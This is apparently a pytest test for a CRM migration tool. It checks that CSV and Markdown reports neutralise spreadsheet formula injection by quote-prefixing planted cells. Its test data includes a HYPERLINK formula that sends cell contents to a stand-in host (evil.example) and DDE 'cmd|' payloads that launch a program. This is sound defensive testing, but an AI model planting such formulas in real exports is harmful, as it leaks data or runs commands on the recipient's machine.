"""The CSV and Markdown files go to the customer's admin, who opens them in a
spreadsheet: Bizstim text that starts like a formula (`=HYPERLINK(...)`,
`=cmd|...`, `+`, `-`, `@`, a tab, a carriage return) must arrive as text,
prefixed with a single quote (OWASP's CSV injection rule), while the numbers
the tool computed (a negative amount included) stay numbers."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from tests.freshsales_story import Migration
from tests.project_snapshot import PROJECT_ENV, snapshot_project

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click to verify")'
CMD = "=cmd|' /C calc'!A0"


@pytest.fixture
def migration(freshsales_staged, tmp_path):
    return Migration(freshsales_staged, tmp_path)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: starts like a formula and is not a
    plain number (a bare -12.5 is a number, never a formula)."""
    return cell.startswith(FORMULA_STARTS) and not _is_number(cell)


def _markdown_cells(path: Path) -> list[str]:
    cells = []
    for line in path.read_text(encoding="utf-8").splitlines():
        if line.startswith("|") and not line.startswith("|---"):
            cells += [c.strip(" ").replace("\\|", "|")
                      for c in re.split(r"(?<!\\)\|", line)[1:-1]]
    return cells


def test_formulas_planted_in_bizstim_reach_the_admin_as_text(migration, tmp_path):
    m = migration
    # a snapshot of the dbt project: the load's gate compares the models with the build
    env = {PROJECT_ENV: str(snapshot_project(tmp_path))}
    practitioner = m.mart("select min(id) from bizstim_raw.practitioners")[0][0]
    client = m.mart("select min(client_id) "
                    "from deliverables.deliverables__availability_guide")[0][0]
    automation = m.mart("select min(id) from bizstim_raw.automations")[0][0]
    # what people typed into Bizstim
    m.execute("update bizstim_raw.automations set name = ?, template = ?, trigger = ? "
              "where id = ?", [HYPERLINK, CMD, "@SUM(1+1)*cmd|' /C calc'!A0", automation])
    m.execute("update bizstim_raw.practitioners set first_name = ?, last_name = ? where id = ?",
              ["+1+1", "Smith", practitioner])
    m.execute("update bizstim_raw.clients set first_name = ? where id = ?", ["-2+3", client])
    m.cli("transform", "--to", "freshsales", env=env)
    # what survives no staging (tabs and CRs are trimmed there) still must not pass
    # through a writer, and a number the tool computed stays a number
    m.execute("update deliverables.deliverables__wage_reference set wage_tier = ?, "
              "practitioner_wage = -12.50 where practitioner_id = ?",
              ["\t=1+1", str(practitioner)])
    m.execute("update deliverables.deliverables__availability_guide set problems = ? "
              "where client_id = ?", ["\r=2+2", str(client)])
    m.execute("update quarantine.quarantine__all set reason = ? where source_id = "
              "(select min(source_id) from quarantine.quarantine__all)", [CMD])

    m.cli("report", "--to", "freshsales", "--no-dbt-docs", env=env)
    out = m.workspace / "reports" / "freshsales"
    csvs = sorted(out.rglob("*.csv"))
    assert {p.name for p in (out / "deliverables").glob("*.csv")} >= {
        "automation_inventory.csv", "wage_reference.csv", "availability_guide.csv",
        "provisioning_queue.csv"}

    seen = []
    for path in csvs:
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not _dangerous(cell), f"{path.name}: {cell!r}"
                    seen.append(cell)
    for planted in (HYPERLINK, CMD, "+1+1 Smith", "-2+3", "\t=1+1", "\r=2+2"):
        assert any(cell.startswith("'" + planted) for cell in seen), planted

    wages = list(csv.DictReader((out / "deliverables" / "wage_reference.csv").open(
        newline="", encoding="utf-8")))
    planted_row = next(r for r in wages if r["practitioner_id"] == str(practitioner))
    assert planted_row["practitioner_wage"] == "-12.50"  # a number, not "'-12.50"
    assert planted_row["full_name"] == "'+1+1 Smith"
    # written bare, so a spreadsheet reads it as the number it is
    assert ",-12.50," in (out / "deliverables" / "wage_reference.csv").read_text()

    markdown = sorted(out.rglob("*.md"))
    md_cells = [c for path in markdown for c in _markdown_cells(path)]
    assert md_cells and not [c for c in md_cells if _dangerous(c)]
    assert "'" + HYPERLINK in md_cells and "-12.50" in md_cells

    # a production load writes the same deliverables through the same writer
    for path in (out / "deliverables").iterdir():
        path.unlink()
    m.cli("load", "--to", "freshsales", "--only", "product_categories", env=env)
    inventory = (out / "deliverables" / "automation_inventory.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(' in inventory
